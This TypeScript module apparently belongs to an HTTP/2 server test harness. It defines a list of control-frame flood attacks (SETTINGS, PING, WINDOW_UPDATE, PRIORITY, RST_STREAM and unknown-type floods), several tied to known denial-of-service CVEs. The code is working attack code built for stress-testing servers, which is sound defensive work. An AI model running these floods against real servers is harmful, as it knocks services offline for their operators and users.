/**
 * Floods of frames that concern the connection or a stream's state, and carry no telemetry.
 *
 * @module
 */
import { requestHeaders, uint32 } from "../http2/raw_connection.ts";
import { frame, joined, settings, windowUpdate } from "../support/http2_frames.ts";
import {
  CANCEL,
  INITIAL_WINDOW_BYTES,
  INITIAL_WINDOW_SIZE,
  PING,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
} from "../support/http2_numbers.ts";
import { type Attack, BATCHES_PATH, PACKETS_PATH } from "./attacker.ts";
import { openCalls, repeated, streamIds, volley } from "./frames.ts";

/** As many as a connection may have open. */
const STREAMS = 1000;

/** Parameters of as many as fit into one frame. */
function fullSettings(entry: (index: number) => readonly [identifier: number, value: number]): Uint8Array {
  return settings(...Array.from({ length: 2730 }, (_, i) => entry(i)));
}

const emptySettings = frame(SETTINGS, 0, 0);
const ping = frame(PING, 0, 0, new Uint8Array(8));

/** CVE-2019-9513: each stream depends on the one before, and then on one far away. */
const priorities = joined(
  ...streamIds(STREAMS).flatMap((id, i) => {
    const far = 2 * ((i * 7919 + 1) % STREAMS) + 1;
    return [Math.max(0, id - 2), far === id ? 0 : far].map((parent) =>
      frame(PRIORITY, 0, id, [...uint32(parent), 255])
    );
  }),
);

/** See the module. */
export const controlFloods: readonly Attack[] = [
  {
    name: "SETTINGS, 140,000 empty ones in one write",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => await connection.flood(repeated(emptySettings, 140_000))),
  },
  {
    name: "SETTINGS flood (CVE-2019-9515)",
    mustEnd: true,
    run: (attacker) => attacker.repeat((connection) => connection.flood(volley(emptySettings))),
  },
  {
    name: "SETTINGS of 2,730 entries, 1,000 calls open (CVE-2020-11080)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        await connection.flood(fullSettings((i) => [i % 2 === 0 ? 6 : 0x1234, 16_384 + i]));
      }),
  },
  {
    name: "INITIAL_WINDOW_SIZE changed in every SETTINGS, 1,000 calls open",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        const change = joined(
          settings([INITIAL_WINDOW_SIZE, 1]),
          settings([INITIAL_WINDOW_SIZE, INITIAL_WINDOW_BYTES]),
        );
        await connection.flood(volley(change));
      }),
  },
  {
    name: "INITIAL_WINDOW_SIZE changed 2,730 times per SETTINGS, 1,000 calls open",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        await connection.flood(fullSettings((i) => [INITIAL_WINDOW_SIZE, 1 + i % 2]));
      }),
  },
  {
    name: "PING flood",
    mustEnd: true,
    run: (attacker) => attacker.repeat((connection) => connection.flood(volley(ping))),
  },
  {
    name: "PING flood, replies not read (CVE-2019-9512)",
    mustEnd: true,
    async run(attacker) {
      while (!attacker.over) {
        using connection = await attacker.connect({ reads: false });
        await connection?.flood(volley(ping));
      }
    },
  },
  {
    name: "WINDOW_UPDATE flood on the connection, 1,000 calls open",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        await connection.flood(volley(windowUpdate(0, 1)));
      }),
  },
  {
    name: "WINDOW_UPDATE flood on 1,000 streams",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        await connection.flood(joined(...streamIds(STREAMS).map((id) => windowUpdate(id, 1))));
      }),
  },
  {
    name: "PRIORITY flood, 1,000 calls open (CVE-2019-9513)",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await openCalls(connection, BATCHES_PATH, STREAMS);
        await connection.flood(priorities);
      }),
  },
  {
    name: "RST_STREAM flood of one closed stream",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(requestHeaders(1, PACKETS_PATH));
        await connection.flood(volley(frame(RST_STREAM, 0, 1, uint32(CANCEL))));
      }),
  },
  {
    name: "Frames of unknown types",
    run: (attacker) => attacker.repeat((connection) => connection.flood(volley(frame(0xee, 0xff, 0)))),
  },
];
